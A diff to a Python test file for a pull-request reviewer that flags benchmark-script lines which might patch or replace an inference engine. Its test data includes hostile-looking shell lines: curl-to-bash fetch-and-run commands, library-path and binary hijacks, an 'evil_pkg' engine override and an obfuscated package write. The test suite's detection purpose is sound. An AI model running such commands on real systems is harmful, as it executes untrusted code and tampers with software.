@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 
 from reviewer_tui.checks.check import Evidence, Outcome
 from reviewer_tui.checks.engine_patch import decide
-from reviewer_tui.checks.patching import read_file
+from reviewer_tui.checks.patches.files import read_file
 from reviewer_tui.model.finding import Finding, Status
 from reviewer_tui.model.part import partial, unavailable
 from reviewer_tui.model.pull_request import ChangedFile, PullRequestRef
@@ -421,12 +421,16 @@ def test_an_unseen_setup_script_that_recipes_use_already_is_not_verified() -> No
         ("pre: |\n  set -e\n  pip install vllm\n", Status.FAIL),
         ("environment:\n  UCX_MODULE_DIR: /usr/local/lib/python3.12/dist-packages/nixl.libs/ucx\n", Status.PASS),
         ("# setup_script: patch-vllm.sh\nname: x\n", Status.PASS),
-        ("a: &x [1]\nb: *x\ncommand: bash /infmax-workspace/run.sh\n", Status.PASS),
+        ("a: &x [1]\nb: *x\ncommand: bash /infmax-workspace/benchmarks/b.sh && echo done\n", Status.PASS),
+        ("command: bash /data/run.sh && echo done\n", Status.JUDGEMENT),
+        ("note: |\n  Runs fast, and never stops.\n  See docs/x for more.\n", Status.PASS),
+        ("environment:\n  SGLANG_EXTERNAL_MODEL_PACKAGE: mine\n", Status.JUDGEMENT),
         ("a: [\npip install numpy\n", Status.JUDGEMENT),
     ],
 )
 def test_recipes_are_read(content: str, status: Status) -> None:
-    outcome = of({**summer(), RECIPE: content})
+    base = {**summer(), "benchmarks/b.sh": "echo\n"}
+    outcome = of({**base, RECIPE: content}, base)
     assert outcome.status is status, outcome.summary
 
 
@@ -588,19 +592,143 @@ def test_real_pull_requests(real_clone: Path, number: int, head: str | None, sta
     assert real_outcome(real_clone, number, head).status == status
 
 
+# -- programs that no rule knows, and what stands elsewhere ------------------------------------------------------------
+
+
 @pytest.mark.parametrize(
     "line",
     [
         "trap 'sed -i s/a/b/ /usr/lib/python3.12/site-packages/sglang/x.py' EXIT",
         "find /usr/lib/python3.12/site-packages/sglang -name '*.py' -exec sed -i s/a/b/ {} +",
+        "find / -name server_args.py -exec sed -i s/a/b/ {} +",
+        r"find / -name '*.py' -exec perl -pi -e s/a/b/ {} \;",
+        "find /opt/venv -name '*.pyc' -delete",
         "busybox sed -i s/a/b/ $D/x.py",
         "nsenter -t 1 -m sed -i s/a/b/ $D/x.py",
+        "timeout -k 5 60 sed -i s/a/b/ $D/x.py",
+        "nice -n 5 taskset -c 0-7 numactl -N 0 -m 0 env -u X A=1 frobnicate",
         "export BASH_ENV=/workspace/hooks.sh",
         "tar -xf overlay.tar -C /",
+        "ROOT=/; cp -r overlay/. $ROOT",
         'python3() { command python3 -m wrapper "$@"; }',
+        "alias vllm='python3 wrapper.py'",
+        "curl -o /tmp/z.sh http://x; chmod +x /tmp/z.sh; /tmp/z.sh",
+        "curl -s http://x | tee y | bash",
+        "bash /workspace/patches/apply.sh",
+        "/data/setup.sh",
+        "/data/setup --fast",
+        "source /workspace/env.sh",
+        "bash -x ./nowhere.sh",
+        "$PREP_CMD",
+        '"${PREP[@]}" x',
+        'PREP="sed -i s/a/b/ x"; $PREP',
+        'PREP=(frobnicate -x); "${PREP[@]}"',
+        'OPTIONS+=(--worker-extension-cls mine.Worker); "${OPTIONS[@]}"',
+        "$(cat command.txt)",
+        'bash -c "$TEXT"',
+        'CMD="frobnicate --all"; eval "$CMD"',
+        "trap 'frobnicate' EXIT",
+        "cat > run.sh <<'EOF'\nfrobnicate\nEOF",
+        'retry() { "$@"; }; retry sed -i s/a/b/ x',
+        'retry() { local n=$1; shift; timeout $n "$@"; }; retry 5 bash ./nowhere.sh',
+        "ls | xargs -n 1 sed -i s/a/b/",
+        "frobnicate | grep x",
+        "x=$(frobnicate)",
+        "python3 -m frobnicate",
+        "python3 /workspace/nowhere.py",
+        "gcc x.c -shared -o /usr/lib/libcudart.so",
+        "cp x.so /usr/lib/x86_64-linux-gnu/libnccl.so.2",
+        "ln -sf /data/nccl.so /opt/rocm/lib/librccl.so",
+        "export LD_LIBRARY_PATH=/workspace/lib:$LD_LIBRARY_PATH",
+        "export PATH=/workspace/bin:$PATH",
+        "export SGLANG_EXTERNAL_MODEL_PACKAGE=evil_pkg",
+        "make -C tools patch",
+        "srun --ntasks=1 ./nowhere.sh",
+        "docker run --rm --entrypoint=/bin/bash $IMAGE /data/nowhere.sh",
     ],
 )
-def test_a_line_that_no_rule_explains_is_never_a_pass(line: str) -> None:
+def test_a_line_that_may_change_the_engine_is_never_a_pass(line: str) -> None:
     script = f"#!/usr/bin/env bash\n{line}\npython3 -m sglang.launch_server --model-path $MODEL --tp $TP\n"
-    decided = decide(evidence_of(summer(), {**summer(), SCRIPT: script}))
-    assert decided.status is not Status.PASS, decided.summary
+    decided = of({**summer(), SCRIPT: script})
+    assert decided.status in (Status.JUDGEMENT, Status.FAIL), decided.summary
+    assert worst(decided).path == SCRIPT
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        'log() { echo "$@"; }; log starting the server',
+        'run() { timeout 60 "$@"; }; run curl -s http://localhost:$PORT/health',
+        "PY=python3; $PY -m sglang.launch_server --tp 8",
+        'SERVER=(python3 -m sglang.launch_server); SERVER+=(--tp 8); "${SERVER[@]}" > "$SERVER_LOG" 2>&1 &',
+        '${PY:-python3} -c "print(1)"',
+        "MAYBE=; [ -n $X ] && MAYBE=exec; $MAYBE python3 -m vllm.entrypoints.openai.api_server",
+        "$(command -v python3) -m json.tool x.json",
+        "cleanup() { kill $PID; }; trap cleanup EXIT; trap 'cleanup; exit 1' INT; trap - TERM",
+        "source /etc/os-release; source $HOME/venv/bin/activate",
+        "sudo -u root nice -n 5 ls",
+        "/usr/bin/env bash -c 'echo hi'",
+        "find . -name '*.json' -exec cat {} +; find \"$RESULT_DIR\" -type f -print",
+        "export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH PATH=$PATH:/workspace/bin",
+        "export PATH=$HOME/.local/bin:$PATH",
+        "command -v frobnicate || type frobnicate",
+        'DETECT=\'if true; then RUN=docker; else RUN="sudo docker"; fi\'; eval "$DETECT"; $RUN ps',
+    ],
+)
+def test_what_starts_the_server_in_other_words_passes(lines: str) -> None:
+    outcome = of(with_lines(lines))
+    assert outcome.status is Status.PASS, outcome.summary
+
+
+LIBRARY = "benchmarks/benchmark_lib.sh"
+SOURCED = 'source "$(dirname "$0")/../../benchmark_lib.sh"'
+ENGINE = "/usr/local/lib/python3.12/dist-packages/sglang/srt/server_args.py"
+
+
+def test_a_function_of_the_library_is_known_and_an_engine_patch_in_it_fails_where_it_stands() -> None:
+    library = f"start_clock() {{\n  date\n}}\napply_local_patches() {{\n  sed -i s/a/b/ {ENGINE}\n}}\n"
+    base = {**summer(), LIBRARY: library}
+    assert of({**with_lines(SOURCED, "start_clock"), LIBRARY: library}, base).status is Status.PASS
+    assert of({**with_lines(SOURCED, "stop_clock"), LIBRARY: library}, base).status is Status.JUDGEMENT
+    outcome = of({**with_lines(SOURCED, "apply_local_patches"), LIBRARY: library}, base)
+    assert outcome.status is Status.FAIL
+    assert (worst(outcome).path, worst(outcome).line) == (LIBRARY, 5)
+    new = of({**with_lines(SOURCED, "apply_local_patches"), LIBRARY: library})
+    assert new.status is Status.FAIL
+
+
+def test_a_program_in_a_variable_of_another_script_passes_while_that_script_is_unchanged() -> None:
+    library = {LIBRARY: "export CLIENT=/venv/bin/client\n"}
+    line = with_lines(SOURCED, "$CLIENT --port $PORT")
+    assert of({**line, **library}, {**summer(), **library}).status is Status.PASS
+    assert of({**line, **library}).status is Status.JUDGEMENT
+
+
+@pytest.mark.parametrize(
+    ("line", "path", "content"),
+    [
+        ("./tools/fix", "tools/fix", f"#!/bin/bash\nsed -i s/a/b/ {ENGINE}\n"),
+        ("python3 tools/run.py", "tools/run.py", f"import os\nos.system('sed -i s/a/b/ {ENGINE}')\n"),
+        ("python3 -m tools.run", "tools/run.py", f"import os\nos.system('sed -i s/a/b/ {ENGINE}')\n"),
+        ("bash tools/one.sh", "tools/one.sh", "frobnicate\n"),
+        (
+            "python3 benchmarks/entry.py",
+            "benchmarks/entry.py",
+            "import importlib\nm = importlib.import_module('sg' + 'lang')\nopen(m.__path__[0] + '/x', 'a').write('')\n",
+        ),
+        ("python3 tools/blob", "tools/blob", b"\0\1"),
+    ],
+)
+def test_a_new_file_that_a_new_line_runs_is_read_wherever_it_lies(line: str, path: str, content: bytes | str) -> None:
+    outcome = of({**with_lines(line), path: content})
+    assert outcome.status in (Status.JUDGEMENT, Status.FAIL), outcome.summary
+    assert worst(outcome).path == path
+    assert of({**summer(), "tools/x": content}).status is Status.NOT_APPLICABLE
+
+
+def test_a_script_whose_name_variables_choose_is_one_of_the_repository_or_unknown() -> None:
+    known = {"benchmarks/single_node/qwen3.5_fp4_b200.sh": "echo\n"}
+    chosen = 'BASE="benchmarks/single_node/${EXP%%_*}_${PRECISION}_b200"; bash "${BASE}${SUFFIX}.sh"'
+    assert of({**with_lines(chosen), **known}, {**summer(), **known}).status is Status.PASS
+    assert of({**with_lines('bash "benchmarks/${NAME}.sh"'), **known}).status is Status.JUDGEMENT
+    assert of({**with_lines(chosen.replace("_b200", "_h999")), **known}).status is Status.JUDGEMENT
